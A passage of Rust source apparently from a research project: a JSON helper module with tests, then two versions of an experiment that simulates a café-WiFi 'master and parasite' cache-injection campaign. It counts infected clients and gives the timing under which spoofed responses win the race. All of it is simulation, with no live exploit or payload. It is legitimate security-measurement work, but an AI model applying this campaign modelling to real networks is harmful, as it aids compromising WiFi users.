        Json::Arr(items.into_iter().map(|item| item.to_json()).collect())
    }

    /// Looks up a key in an object.
    pub fn get(&self, key: &str) -> Option<&Json> {
        match self {
            Json::Obj(pairs) => pairs.iter().find(|(k, _)| k == key).map(|(_, v)| v),
            _ => None,
        }
    }

    /// The value as a string, if it is one.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Json::Str(s) => Some(s),
            _ => None,
        }
    }

    /// The value as a float, if it is a number.
    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Json::Num(n) => Some(*n),
            _ => None,
        }
    }

    /// The value as a non-negative integer, if it is a whole number.
    pub fn as_u64(&self) -> Option<u64> {
        match self {
            Json::Num(n) if *n >= 0.0 && n.fract() == 0.0 && *n <= 2f64.powi(53) => Some(*n as u64),
            _ => None,
        }
    }

    /// The value as a boolean, if it is one.
    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Json::Bool(b) => Some(*b),
            _ => None,
        }
    }

    /// The value as an array slice, if it is one.
    pub fn as_array(&self) -> Option<&[Json]> {
        match self {
            Json::Arr(items) => Some(items),
            _ => None,
        }
    }

    /// Parses a JSON document.
    pub fn parse(input: &str) -> Result<Json, JsonError> {
        let mut parser = Parser {
            bytes: input.as_bytes(),
            pos: 0,
        };
        parser.skip_ws();
        let value = parser.value()?;
        parser.skip_ws();
        if parser.pos != parser.bytes.len() {
            return Err(parser.error("trailing data after the top-level value"));
        }
        Ok(value)
    }
}

/// Conversion into a [`Json`] value.
pub trait ToJson {
    /// Converts `self` into a JSON value.
    fn to_json(&self) -> Json;
}

impl ToJson for Json {
    fn to_json(&self) -> Json {
        self.clone()
    }
}

impl ToJson for bool {
    fn to_json(&self) -> Json {
        Json::Bool(*self)
    }
}

impl ToJson for f64 {
    fn to_json(&self) -> Json {
        Json::Num(*self)
    }
}

impl ToJson for u64 {
    fn to_json(&self) -> Json {
        Json::Num(*self as f64)
    }
}

impl ToJson for u32 {
    fn to_json(&self) -> Json {
        Json::Num(*self as f64)
    }
}

impl ToJson for usize {
    fn to_json(&self) -> Json {
        Json::Num(*self as f64)
    }
}

impl ToJson for str {
    fn to_json(&self) -> Json {
        Json::Str(self.to_string())
    }
}

impl ToJson for String {
    fn to_json(&self) -> Json {
        Json::Str(self.clone())
    }
}

impl<T: ToJson + ?Sized> ToJson for &T {
    fn to_json(&self) -> Json {
        (**self).to_json()
    }
}

impl<T: ToJson> ToJson for Option<T> {
    fn to_json(&self) -> Json {
        match self {
            Some(value) => value.to_json(),
            None => Json::Null,
        }
    }
}

impl<T: ToJson> ToJson for [T] {
    fn to_json(&self) -> Json {
        Json::Arr(self.iter().map(ToJson::to_json).collect())
    }
}

impl<T: ToJson> ToJson for Vec<T> {
    fn to_json(&self) -> Json {
        self.as_slice().to_json()
    }
}

impl fmt::Display for Json {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Json::Null => f.write_str("null"),
            Json::Bool(true) => f.write_str("true"),
            Json::Bool(false) => f.write_str("false"),
            Json::Num(n) => write_number(f, *n),
            Json::Str(s) => write_string(f, s),
            Json::Arr(items) => {
                f.write_str("[")?;
                for (index, item) in items.iter().enumerate() {
                    if index > 0 {
                        f.write_str(",")?;
                    }
                    item.fmt(f)?;
                }
                f.write_str("]")
            }
            Json::Obj(pairs) => {
                f.write_str("{")?;
                for (index, (key, value)) in pairs.iter().enumerate() {
                    if index > 0 {
                        f.write_str(",")?;
                    }
                    write_string(f, key)?;
                    f.write_str(":")?;
                    value.fmt(f)?;
                }
                f.write_str("}")
            }
        }
    }
}

fn write_number(f: &mut fmt::Formatter<'_>, n: f64) -> fmt::Result {
    if !n.is_finite() {
        // JSON has no Inf/NaN; fall back to null rather than emit garbage.
        return f.write_str("null");
    }
    if n.fract() == 0.0 && n.abs() < 2f64.powi(53) {
        write!(f, "{}", n as i64)
    } else {
        write!(f, "{n}")
    }
}

fn write_string(f: &mut fmt::Formatter<'_>, s: &str) -> fmt::Result {
    f.write_str("\"")?;
    for c in s.chars() {
        match c {
            '"' => f.write_str("\\\"")?,
            '\\' => f.write_str("\\\\")?,
            '\n' => f.write_str("\\n")?,
            '\r' => f.write_str("\\r")?,
            '\t' => f.write_str("\\t")?,
            c if (c as u32) < 0x20 => write!(f, "\\u{:04x}", c as u32)?,
            c => write!(f, "{c}")?,
        }
    }
    f.write_str("\"")
}

/// Error produced by [`Json::parse`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JsonError {
    /// Byte offset the parser stopped at.
    pub offset: usize,
    /// What went wrong.
    pub message: String,
}

impl fmt::Display for JsonError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "JSON parse error at byte {}: {}", self.offset, self.message)
    }
}

impl std::error::Error for JsonError {}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl Parser<'_> {
    fn error(&self, message: &str) -> JsonError {
        JsonError {
            offset: self.pos,
            message: message.to_string(),
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn skip_ws(&mut self) {
        while matches!(self.peek(), Some(b' ' | b'\t' | b'\n' | b'\r')) {
            self.pos += 1;
        }
    }

    fn expect(&mut self, byte: u8) -> Result<(), JsonError> {
        if self.peek() == Some(byte) {
            self.pos += 1;
            Ok(())
        } else {
            Err(self.error(&format!("expected {:?}", byte as char)))
        }
    }

    fn literal(&mut self, word: &str, value: Json) -> Result<Json, JsonError> {
        if self.bytes[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            Ok(value)
        } else {
            Err(self.error(&format!("expected literal {word}")))
        }
    }

    fn value(&mut self) -> Result<Json, JsonError> {
        match self.peek() {
            Some(b'n') => self.literal("null", Json::Null),
            Some(b't') => self.literal("true", Json::Bool(true)),
            Some(b'f') => self.literal("false", Json::Bool(false)),
            Some(b'"') => self.string().map(Json::Str),
            Some(b'[') => self.array(),
            Some(b'{') => self.object(),
            Some(b'-' | b'0'..=b'9') => self.number(),
            Some(_) => Err(self.error("unexpected character")),
            None => Err(self.error("unexpected end of input")),
        }
    }

    fn array(&mut self) -> Result<Json, JsonError> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Json::Arr(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Json::Arr(items));
                }
                _ => return Err(self.error("expected ',' or ']' in array")),
            }
        }
    }

    fn object(&mut self) -> Result<Json, JsonError> {
        self.expect(b'{')?;
        let mut pairs = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Json::Obj(pairs));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.expect(b':')?;
            self.skip_ws();
            let value = self.value()?;
            pairs.push((key, value));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Json::Obj(pairs));
                }
                _ => return Err(self.error("expected ',' or '}' in object")),
            }
        }
    }

    fn string(&mut self) -> Result<String, JsonError> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            let start = self.pos;
            // Consume a run of plain bytes in one go.
            while let Some(b) = self.peek() {
                if b == b'"' || b == b'\\' || b < 0x20 {
                    break;
                }
                self.pos += 1;
            }
            out.push_str(
                std::str::from_utf8(&self.bytes[start..self.pos])
                    .map_err(|_| self.error("invalid UTF-8 in string"))?,
            );
            match self.peek() {
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'"') => out.push('"'),
                        Some(b'\\') => out.push('\\'),
                        Some(b'/') => out.push('/'),
                        Some(b'n') => out.push('\n'),
                        Some(b'r') => out.push('\r'),
                        Some(b't') => out.push('\t'),
                        Some(b'b') => out.push('\u{8}'),
                        Some(b'f') => out.push('\u{c}'),
                        Some(b'u') => {
                            let hex = self
                                .bytes
                                .get(self.pos + 1..self.pos + 5)
                                .and_then(|h| std::str::from_utf8(h).ok())
                                .ok_or_else(|| self.error("truncated \\u escape"))?;
                            let code = u32::from_str_radix(hex, 16)
                                .map_err(|_| self.error("invalid \\u escape"))?;
                            // Surrogate pairs are not produced by our writer;
                            // map lone surrogates to the replacement character.
                            out.push(char::from_u32(code).unwrap_or('\u{fffd}'));
                            self.pos += 4;
                        }
                        _ => return Err(self.error("invalid escape sequence")),
                    }
                    self.pos += 1;
                }
                _ => return Err(self.error("unterminated string")),
            }
        }
    }

    fn number(&mut self) -> Result<Json, JsonError> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while matches!(self.peek(), Some(b'0'..=b'9' | b'.' | b'e' | b'E' | b'+' | b'-')) {
            self.pos += 1;
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos]).expect("ascii digits");
        text.parse::<f64>()
            .map(Json::Num)
            .map_err(|_| self.error("malformed number"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trips_nested_values() {
        let value = Json::obj([
            ("name", Json::Str("table one \"quoted\"\n".into())),
            ("count", Json::Num(23.0)),
            ("ratio", Json::Num(0.5)),
            ("flag", Json::Bool(true)),
            ("missing", Json::Null),
            ("rows", Json::Arr(vec![Json::Num(1.0), Json::Num(-2.0)])),
        ]);
        let text = value.to_string();
        assert_eq!(Json::parse(&text).unwrap(), value);
    }

    #[test]
    fn integers_render_without_fraction() {
        assert_eq!(Json::Num(5_000_000.0).to_string(), "5000000");
        assert_eq!(Json::Num(2.5).to_string(), "2.5");
    }

    #[test]
    fn parses_whitespace_and_escapes() {
        let parsed = Json::parse(" { \"a\" : [ 1 , \"x\\u0041\\n\" ] } ").unwrap();
        assert_eq!(parsed.get("a").unwrap().as_array().unwrap()[0].as_u64(), Some(1));
        assert_eq!(parsed.get("a").unwrap().as_array().unwrap()[1].as_str(), Some("xA\n"));
    }

    #[test]
    fn rejects_garbage() {
        assert!(Json::parse("{").is_err());
        assert!(Json::parse("[1,]").is_err());
        assert!(Json::parse("true false").is_err());
        assert!(Json::parse("\"unterminated").is_err());
    }

    #[test]
    fn control_characters_escape_and_round_trip() {
        let value = Json::Str("bell\u{7} tab\t".into());
        let text = value.to_string();
        assert!(text.contains("\\u0007"));
        assert_eq!(Json::parse(&text).unwrap(), value);
    }
}
