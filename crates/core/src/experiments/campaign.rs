//! The population-scale campaign experiment: a fleet of café access points.
//!
//! The paper demonstrates the attack against one victim in one café; its
//! measurements (Figures 3–5) presume the attacker operating a *campaign*
//! over many victims. This experiment scales the Figure 2 packet-level race
//! world to a fleet of café APs — `RunConfig::fleet_clients` simulated clients
//! spread over `RunConfig::fleet_aps` independent shared-WiFi simulations,
//! each with its own master tap racing the genuine server — and aggregates
//! infection outcomes and trace summaries across the fleet.
//!
//! Every per-AP simulator runs with [`TraceMode::SummaryOnly`], so a
//! 100k-client sweep retains **no per-packet memory**: only the bounded
//! summary counters survive each AP. APs run in parallel on scoped worker
//! threads, and an AP that exhausts its event budget is isolated (counted in
//! `failed_aps`) instead of aborting the sweep.

use super::tables::{build_race_world, RaceWorld};
use super::{parallel_tasks, ExperimentError, ExperimentId, Registry, RunConfig};
use crate::json::{Json, ToJson};
use crate::script::Parasite;
use mp_httpsim::message::{Request, Response};
use mp_httpsim::url::Url;
use mp_netsim::addr::IpAddr;
use mp_netsim::capture::TraceMode;
use mp_netsim::error::NetError;
use mp_netsim::time::Duration as SimDuration;
use serde::{Deserialize, Serialize};

/// One AP addresses its clients out of `10.x.y.2`, so a single simulation
/// holds at most a /16 of them.
const MAX_CLIENTS_PER_AP: usize = 65_536;

/// Result of the campaign fleet experiment.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CampaignFleetResult {
    /// Seed-sweep shards the fleet was split across (1 = unsharded).
    pub shards: usize,
    /// Access points simulated.
    pub aps: usize,
    /// Total simulated clients across the fleet.
    pub clients: usize,
    /// Clients that ended up executing the parasite.
    pub infected_clients: usize,
    /// Clients that kept the genuine object (they requested an object the
    /// master had not prepared).
    pub clean_clients: usize,
    /// APs whose simulation failed (event budget exhausted); their clients
    /// count as neither infected nor clean.
    pub failed_aps: usize,
    /// Simulator events processed across the whole fleet.
    pub total_events: u64,
    /// Application payload bytes that crossed the fleet's networks.
    pub payload_bytes: u64,
    /// Spoofed transmissions injected by the masters.
    pub injected_events: u64,
    /// Pre-handshake send buffers evicted fleet-wide (failed connections).
    pub pending_bytes_dropped: u64,
}

impl CampaignFleetResult {
    /// Fraction of simulated clients that ended up infected.
    pub fn infection_rate(&self) -> f64 {
        if self.clients == 0 {
            0.0
        } else {
            self.infected_clients as f64 / self.clients as f64
        }
    }

    /// Renders the campaign summary.
    pub fn render(&self) -> String {
        format!(
            "Campaign - population-scale cafe-AP fleet sweep\n\
             seed-sweep shards:        {:>10}\n\
             access points:            {:>10}\n\
             simulated clients:        {:>10}\n\
             infected clients:         {:>10}  ({:.1} %)\n\
             clean clients:            {:>10}\n\
             failed APs:               {:>10}\n\
             simulator events:         {:>10}\n\
             payload bytes:            {:>10}\n\
             injected responses:       {:>10}\n\
             pending bytes dropped:    {:>10}\n",
            self.shards,
            self.aps,
            self.clients,
            self.infected_clients,
            self.infection_rate() * 100.0,
            self.clean_clients,
            self.failed_aps,
            self.total_events,
            self.payload_bytes,
            self.injected_events,
            self.pending_bytes_dropped,
        )
    }
}

impl ToJson for CampaignFleetResult {
    fn to_json(&self) -> Json {
        Json::obj([
            ("shards", self.shards.to_json()),
            ("aps", self.aps.to_json()),
            ("clients", self.clients.to_json()),
            ("infected_clients", self.infected_clients.to_json()),
            ("clean_clients", self.clean_clients.to_json()),
            ("failed_aps", self.failed_aps.to_json()),
            ("infection_rate", self.infection_rate().to_json()),
            ("total_events", self.total_events.to_json()),
            ("payload_bytes", self.payload_bytes.to_json()),
            ("injected_events", self.injected_events.to_json()),
            ("pending_bytes_dropped", self.pending_bytes_dropped.to_json()),
        ])
    }
}

/// One AP's share of the fleet.
struct ApTask {
    seed: u64,
    clients: usize,
}

/// Aggregate outcome of one AP simulation.
struct ApOutcome {
    infected: usize,
    clean: usize,
    events: u64,
    payload_bytes: u64,
    injected_events: u64,
    pending_bytes_dropped: u64,
}

/// SplitMix64 finaliser, used to derive well-mixed per-AP seeds.
fn mix_seed(seed: u64, index: u64) -> u64 {
    let mut z = seed.wrapping_add(index.wrapping_mul(0x9e3779b97f4a7c15));
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58476d1ce4e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d049bb133111eb);
    z ^ (z >> 31)
}

/// Every eighth client asks for an object the master has *not* prepared, so
/// the fleet exercises both the winning race and the passthrough path.
fn requests_unprepared_object(client_index: usize) -> bool {
    client_index % 8 == 7
}

/// Simulates one café AP: `task.clients` victims joining the shared-WiFi
/// race world of [`build_race_world`] (the exact Figure 2 / Table II
/// topology and timing), with an always-bounded `SummaryOnly` trace.
fn simulate_ap(task: &ApTask, config: &RunConfig) -> Result<ApOutcome, NetError> {
    let RaceWorld {
        mut sim,
        wifi,
        server,
        target,
    } = build_race_world(task.seed, 300, 40_000, config.event_budget, TraceMode::SummaryOnly);
    if config.jitter_us > 0 {
        sim.set_medium_jitter(wifi, SimDuration::from_micros(config.jitter_us));
    }

    let other = Url::parse("http://somesite.com/weather.js").expect("static url");
    let mut connections = Vec::with_capacity(task.clients);
    for index in 0..task.clients {
        let ip = IpAddr::new(10, (index >> 8) as u8, (index & 0xff) as u8, 2);
        let client = sim.add_host("client", ip, wifi);
        let conn = sim.connect(client, server, 80)?;
        let url = if requests_unprepared_object(index) { &other } else { &target };
        sim.send(client, conn, &Request::get(url.clone()).to_wire())?;
        connections.push((client, conn));
    }
    sim.run_until_idle()?;

    let mut infected = 0usize;
    let mut clean = 0usize;
    for (client, conn) in connections {
        let delivered = sim.received(client, conn);
        let got_parasite = Response::from_wire(&delivered)
            .ok()
            .map(|r| Parasite::detect(&r.body.as_text()).is_some())
            .unwrap_or(false);
        if got_parasite {
            infected += 1;
        } else {
            clean += 1;
        }
    }

    let summary = *sim.trace().summary();
    Ok(ApOutcome {
        infected,
        clean,
        events: sim.events_processed(),
        payload_bytes: summary.payload_bytes,
        injected_events: summary.injected_events,
        pending_bytes_dropped: summary.pending_bytes_dropped,
    })
}

/// Divides `total` into `parts` nearly equal slices (earlier slices take the
/// remainder).
fn share(total: usize, parts: usize, index: usize) -> usize {
    total / parts + usize::from(index < total % parts)
}

/// Runs the campaign fleet: unsharded for `fleet_shards <= 1`, otherwise a
/// seed-sweep of independent shard runs (each its own registry task, exactly
/// as a `run_many` sweep would schedule them) whose trace summaries and
/// infection counts are merged into one artifact in shard order.
pub(super) fn campaign_fleet(config: &RunConfig) -> Result<CampaignFleetResult, ExperimentError> {
    let shards = config.fleet_shards.max(1);
    if shards == 1 {
        return campaign_fleet_shard(config);
    }
    // Never more shards than APs: every shard needs at least one simulation.
    let shards = shards.min(config.fleet_aps.max(1));
    let shard_configs: Vec<RunConfig> = (0..shards)
        .map(|index| RunConfig {
            // A distinct, well-mixed seed stream per shard (offset so shard
            // seeds never coincide with the unsharded run's per-AP seeds).
            seed: mix_seed(config.seed, 0x5eed_5a4d ^ index as u64),
            fleet_clients: share(config.fleet_clients, shards, index),
            fleet_aps: share(config.fleet_aps.max(1), shards, index),
            fleet_shards: 1,
            // Shards already run in parallel; keep each shard's AP sweep
            // sequential so the machine is not oversubscribed.
            fleet_jobs: 1,
            ..*config
        })
        .collect();

    let jobs = if config.fleet_jobs == 0 {
        std::thread::available_parallelism().map(|n| n.get()).unwrap_or(4)
    } else {
        config.fleet_jobs
    }
    .min(shards);
    let experiment = Registry::get(ExperimentId::CampaignFleet);
    let outcomes = parallel_tasks(&shard_configs, jobs, |shard| experiment.try_run(shard));

    let mut merged = CampaignFleetResult {
        shards,
        aps: 0,
        clients: config.fleet_clients,
        infected_clients: 0,
        clean_clients: 0,
        failed_aps: 0,
        total_events: 0,
        payload_bytes: 0,
        injected_events: 0,
        pending_bytes_dropped: 0,
    };
    let mut failed_shards = 0usize;
    let mut first_error: Option<ExperimentError> = None;
    for (outcome, shard_config) in outcomes.into_iter().zip(&shard_configs) {
        let shard_result = match outcome {
            Ok(artifact) => artifact.data.as_campaign_fleet().cloned(),
            Err(error) => {
                first_error.get_or_insert(error);
                None
            }
        };
        match shard_result {
            Some(shard) => {
                merged.aps += shard.aps;
                merged.infected_clients += shard.infected_clients;
                merged.clean_clients += shard.clean_clients;
                merged.failed_aps += shard.failed_aps;
                merged.total_events += shard.total_events;
                merged.payload_bytes += shard.payload_bytes;
                merged.injected_events += shard.injected_events;
                merged.pending_bytes_dropped += shard.pending_bytes_dropped;
            }
            None => {
                // A shard that failed outright contributes its APs as failed;
                // its clients count as neither infected nor clean.
                merged.aps += shard_config.fleet_aps;
                merged.failed_aps += shard_config.fleet_aps;
                failed_shards += 1;
            }
        }
    }
    if failed_shards == shards {
        // Every shard failed: surface the first shard's *actual* error (e.g.
        // an overpacked-AP Config error), not a synthesized budget failure.
        return Err(first_error.unwrap_or(ExperimentError::Net(
            NetError::EventBudgetExhausted {
                budget: config.event_budget,
            },
        )));
    }
    Ok(merged)
}

/// Runs one (unsharded) fleet shard: `config.fleet_clients` clients spread
/// over `config.fleet_aps` independent AP simulations executed on scoped
/// worker threads, aggregated deterministically in AP order.
fn campaign_fleet_shard(config: &RunConfig) -> Result<CampaignFleetResult, ExperimentError> {
    let aps = config.fleet_aps.max(1);
    let total_clients = config.fleet_clients;
    let base = total_clients / aps;
    let remainder = total_clients % aps;
    let largest_ap = base + usize::from(remainder > 0);
    if largest_ap > MAX_CLIENTS_PER_AP {
        return Err(ExperimentError::Config(format!(
            "{total_clients} clients over {aps} APs puts {largest_ap} on one AP; \
             one AP holds at most {MAX_CLIENTS_PER_AP} — raise fleet_aps"
        )));
    }
    let tasks: Vec<ApTask> = (0..aps)
        .map(|index| ApTask {
            seed: mix_seed(config.seed, index as u64),
            clients: base + usize::from(index < remainder),
        })
        .collect();

    let jobs = if config.fleet_jobs == 0 {
        std::thread::available_parallelism().map(|n| n.get()).unwrap_or(4)
    } else {
        config.fleet_jobs
    }
    .min(aps);
    let outcomes = parallel_tasks(&tasks, jobs, |task| simulate_ap(task, config));

    let mut result = CampaignFleetResult {
        shards: 1,
        aps,
        clients: total_clients,
        infected_clients: 0,
        clean_clients: 0,
        failed_aps: 0,
        total_events: 0,
        payload_bytes: 0,
        injected_events: 0,
        pending_bytes_dropped: 0,
    };
    for outcome in outcomes {
        match outcome {
            Ok(ap) => {
                result.infected_clients += ap.infected;
                result.clean_clients += ap.clean;
                result.total_events += ap.events;
                result.payload_bytes += ap.payload_bytes;
                result.injected_events += ap.injected_events;
                result.pending_bytes_dropped += ap.pending_bytes_dropped;
            }
            Err(_) => result.failed_aps += 1,
        }
    }
    // A fleet where every single AP failed is a configuration error worth
    // surfacing as such, not an all-zero artifact.
    if result.failed_aps == aps {
        return Err(ExperimentError::Net(NetError::EventBudgetExhausted {
            budget: config.event_budget,
        }));
    }
    Ok(result)
}
