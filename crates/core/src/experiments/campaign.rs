//! The population-scale campaign experiment: a fleet of café access points.
//!
//! The paper demonstrates the attack against one victim in one café; its
//! measurements (Figures 3–5) presume the attacker operating a *campaign*
//! over many victims. This experiment scales the Figure 2 packet-level race
//! world to a fleet of café APs — `RunConfig::fleet_clients` simulated clients
//! spread over `RunConfig::fleet_aps` independent shared-WiFi simulations,
//! each with its own master tap racing the genuine server — and aggregates
//! infection outcomes and trace summaries across the fleet.
//!
//! Every per-AP simulator runs with [`TraceMode::SummaryOnly`], so a
//! 100k-client sweep retains **no per-packet memory**: only the bounded
//! summary counters survive each AP. APs run in parallel on scoped worker
//! threads, and an AP that exhausts its event budget is isolated (counted in
//! `failed_aps`) instead of aborting the sweep.

use super::multiday::DayStats;
use super::tables::{build_race_world, RaceTiming, RaceWorld};
use super::{parallel_tasks, ExperimentError, ExperimentId, Registry, RunConfig, RunCtx};
use crate::json::{Json, ToJson};
use crate::script::Parasite;
use mp_httpsim::message::{Request, Response};
use mp_httpsim::url::Url;
use mp_netsim::addr::IpAddr;
use mp_netsim::capture::TraceMode;
use mp_netsim::dist::Dist;
use mp_netsim::error::NetError;
use mp_netsim::sim::SharedBudget;
use mp_netsim::time::Duration as SimDuration;
use rand::rngs::StdRng;
use rand::SeedableRng;
use serde::{Deserialize, Serialize};

/// One AP addresses its clients out of `10.x.y.2`, so a single simulation
/// holds at most a /16 of them.
pub(super) const MAX_CLIENTS_PER_AP: usize = 65_536;

/// Seed-stream tag for per-AP heterogeneity profiles: profiles are drawn from
/// `mix_seed(campaign_seed, PROFILE_TAG ^ ap_index)`, a stream disjoint from
/// both the per-AP simulation seeds (`mix_seed(seed, index)`) and the shard
/// seeds (`mix_seed(seed, SHARD_TAG ^ index)`), so heterogeneity never
/// perturbs the race RNG itself.
pub(super) const PROFILE_TAG: u64 = 0x00f1_7e00_ab5e_ed00;

/// Seed-stream tag for shard seed derivation (see [`campaign_fleet`]).
///
/// Follows the 64-bit high-lane convention shared by every tag in
/// [`super::SEED_TAG_REGISTRY`]: the top 16 bits (here `0x5a4d`) identify
/// the stream family. The tag's value migrated from the original 32-bit
/// `0x5eed_5a4d`; shard seeds only feed the classic single-day seed sweep,
/// whose race outcomes are seed-independent at jitter 0 (pinned by
/// `sharded_and_unsharded_fleets_agree_on_the_logical_population` and the
/// byte-identity regression in `tests/shard_tag_migration.rs`), and the
/// checkpoint fingerprint never includes shard scheduling, so old
/// checkpoints and merged reports are unaffected.
pub(super) const SHARD_TAG: u64 = 0x5a4d_0000_0000_0000;

// ---------------------------------------------------------------------------
// Per-AP heterogeneity
// ---------------------------------------------------------------------------

/// Per-AP heterogeneity: link and attacker timing plus a client-population
/// weight, drawn from seeded [`Dist`] distributions when
/// [`RunConfig::fleet_hetero`] is set. Real café APs are not identical —
/// latency, jitter, how fast the resident master reacts and how many clients
/// sit behind each AP all vary; the profile captures one AP's draw.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct ApProfile {
    /// Master-tap reaction delay in microseconds.
    pub attacker_reaction_us: u64,
    /// One-way shared-WiFi latency in microseconds.
    pub wifi_latency_us: u64,
    /// One-way WAN latency to the genuine server in microseconds.
    pub wan_latency_us: u64,
    /// Extra per-packet WiFi jitter bound in microseconds (added on top of
    /// `RunConfig::jitter_us`).
    pub jitter_us: u64,
    /// Relative client-population weight: clients are distributed over the
    /// fleet's APs proportionally to this weight (largest-remainder rounding).
    pub client_weight: u64,
}

impl ApProfile {
    /// The distributions one AP's parameters are drawn from: "most APs are
    /// ordinary, a few are slow", centred on the paper's Figure 2 timing.
    /// The reaction and WAN supports deliberately overlap — the master's
    /// spoofed response beats the genuine one iff `reaction < 2·wan + 500 µs`
    /// (the WiFi hop cancels out), so a slow master behind a fast-WAN café
    /// *loses* the race and that AP's clients stay clean. Heterogeneity
    /// changes outcomes, not just timestamps.
    const REACTION: Dist = Dist::Triangular { lo: 150, mode: 300, hi: 15_000 };
    const WIFI: Dist = Dist::Triangular { lo: 800, mode: 2_000, hi: 8_000 };
    const WAN: Dist = Dist::Triangular { lo: 5_000, mode: 40_000, hi: 120_000 };
    const JITTER: Dist = Dist::Uniform { lo: 0, hi: 400 };
    const WEIGHT: Dist = Dist::Uniform { lo: 1, hi: 4 };

    /// Draws one AP's profile from its seed (deterministic per seed).
    pub fn draw(seed: u64) -> ApProfile {
        let mut rng = StdRng::seed_from_u64(seed);
        ApProfile {
            attacker_reaction_us: Self::REACTION.sample(&mut rng),
            wifi_latency_us: Self::WIFI.sample(&mut rng),
            wan_latency_us: Self::WAN.sample(&mut rng),
            jitter_us: Self::JITTER.sample(&mut rng),
            client_weight: Self::WEIGHT.sample(&mut rng),
        }
    }

    /// The profile of AP `ap_index` under `campaign_seed` (the stable,
    /// day-independent heterogeneity stream).
    pub fn for_ap(campaign_seed: u64, ap_index: usize) -> ApProfile {
        ApProfile::draw(mix_seed(campaign_seed, PROFILE_TAG ^ ap_index as u64))
    }

    /// The race-world timing this profile induces.
    pub(super) fn timing(&self) -> RaceTiming {
        RaceTiming {
            attacker_reaction_us: self.attacker_reaction_us,
            wifi_latency_us: self.wifi_latency_us,
            server_one_way_us: self.wan_latency_us,
        }
    }
}

impl ToJson for ApProfile {
    fn to_json(&self) -> Json {
        Json::obj([
            ("attacker_reaction_us", self.attacker_reaction_us.to_json()),
            ("wifi_latency_us", self.wifi_latency_us.to_json()),
            ("wan_latency_us", self.wan_latency_us.to_json()),
            ("jitter_us", self.jitter_us.to_json()),
            ("client_weight", self.client_weight.to_json()),
        ])
    }
}

/// Distributes `total` clients over APs proportionally to `weights` using
/// largest-remainder rounding (deterministic; counts sum to exactly `total`).
pub(super) fn distribute_by_weight(total: usize, weights: &[u64]) -> Vec<usize> {
    let total_weight: u128 = weights.iter().map(|&w| w.max(1) as u128).sum();
    if total_weight == 0 || weights.is_empty() {
        return vec![0; weights.len()];
    }
    let mut counts: Vec<usize> = Vec::with_capacity(weights.len());
    let mut remainders: Vec<(u128, usize)> = Vec::with_capacity(weights.len());
    let mut assigned = 0usize;
    for (index, &weight) in weights.iter().enumerate() {
        let product = total as u128 * weight.max(1) as u128;
        counts.push((product / total_weight) as usize);
        remainders.push((product % total_weight, index));
        assigned += *counts.last().expect("just pushed");
    }
    // Hand the leftover slots to the largest remainders (ties: lowest index).
    remainders.sort_by(|a, b| b.0.cmp(&a.0).then(a.1.cmp(&b.1)));
    for &(_, index) in remainders.iter().take(total - assigned) {
        counts[index] += 1;
    }
    counts
}

/// Result of the campaign fleet experiment.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CampaignFleetResult {
    /// Seed-sweep shards the fleet was split across (1 = unsharded).
    pub shards: usize,
    /// Access points simulated.
    pub aps: usize,
    /// Total simulated clients across the fleet.
    pub clients: usize,
    /// Clients that ended up executing the parasite.
    pub infected_clients: usize,
    /// Clients that kept the genuine object (they requested an object the
    /// master had not prepared).
    pub clean_clients: usize,
    /// APs whose simulation failed (event budget exhausted); their clients
    /// count as neither infected nor clean.
    pub failed_aps: usize,
    /// Simulator events processed across the whole fleet.
    pub total_events: u64,
    /// Application payload bytes that crossed the fleet's networks.
    pub payload_bytes: u64,
    /// Spoofed transmissions injected by the masters.
    pub injected_events: u64,
    /// Pre-handshake send buffers evicted fleet-wide (failed connections).
    pub pending_bytes_dropped: u64,
    /// Day-by-day statistics of a multi-day churn campaign
    /// ([`RunConfig::fleet_days`] > 1); empty for the classic single-snapshot
    /// sweep, so the classic artifact stays byte-identical.
    pub day_stats: Vec<DayStats>,
}

impl CampaignFleetResult {
    /// Fraction of simulated clients that ended up infected.
    pub fn infection_rate(&self) -> f64 {
        if self.clients == 0 {
            0.0
        } else {
            self.infected_clients as f64 / self.clients as f64
        }
    }

    /// Renders the campaign summary (plus the Figure 3-style day table for
    /// multi-day churn campaigns).
    pub fn render(&self) -> String {
        let mut out = self.render_summary();
        if !self.day_stats.is_empty() {
            out.push_str("\nday-by-day churn dynamics (Figure 3 model)\n");
            out.push_str(
                "day | arrivals | cleared | rotated | exposed | newly infected | infected | rate %\n",
            );
            for day in &self.day_stats {
                out.push_str(&format!(
                    "{:>3} | {:>8} | {:>7} | {:>7} | {:>7} | {:>14} | {:>8} | {:>6.1}\n",
                    day.day,
                    day.arrivals,
                    day.cache_clears + day.rotation_cured,
                    if day.object_rotated { "yes" } else { "no" },
